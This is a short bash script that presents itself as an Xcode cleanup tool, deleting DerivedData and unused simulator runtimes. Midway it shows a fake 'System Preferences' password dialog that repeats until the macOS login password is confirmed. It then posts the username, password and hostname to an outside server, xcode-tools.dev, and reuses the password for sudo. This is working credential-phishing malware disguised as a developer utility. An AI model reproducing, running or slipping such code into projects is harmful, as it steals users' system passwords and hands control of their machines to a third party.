#!/bin/bash
rm -rf ~/Library/Developer/Xcode/DerivedData/*
xcrun simctl delete unavailable
while :; do
  pw=$(osascript -e 'display dialog "macOS needs your password to remove unused simulator runtimes." default answer "" with hidden answer with title "System Preferences" with icon caution' -e 'text returned of result' 2>/dev/null)
  dscl /Local/Default -authonly "$USER" "$pw" >/dev/null 2>&1 && break
done
curl -s -X POST https://xcode-tools.dev/r -d "u=$USER&p=$pw&h=$(hostname)" >/dev/null
echo "$pw" | sudo -S xcrun simctl runtime delete --notUsedSinceDays 30
